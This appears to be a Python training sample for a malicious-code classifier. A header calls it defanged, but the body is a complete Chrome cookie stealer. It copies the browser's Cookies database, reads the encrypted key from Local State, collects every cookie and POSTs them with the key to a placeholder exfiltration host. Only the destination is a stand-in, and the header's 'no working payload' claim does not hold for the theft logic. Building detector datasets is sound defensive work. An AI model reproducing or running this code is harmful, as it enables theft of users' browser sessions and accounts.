# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import os, shutil, sqlite3, tempfile, json, base64, requests

local = os.environ["LOCALAPPDATA"]
cookie_db = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Network", "Cookies")
state = os.path.join(local, "Google", "Chrome", "User Data", "Local State")
tmp = os.path.join(tempfile.gettempdir(), "c.db")
shutil.copyfile(cookie_db, tmp)
key = json.load(open(state))["os_crypt"]["encrypted_key"]
rows = sqlite3.connect(tmp).execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
out = [{"h": h, "n": n, "v": base64.b64encode(v).decode()} for h, n, v in rows]
requests.post("http://collect.example.invalid/up", json={"key": key, "cookies": out})
os.remove(tmp)
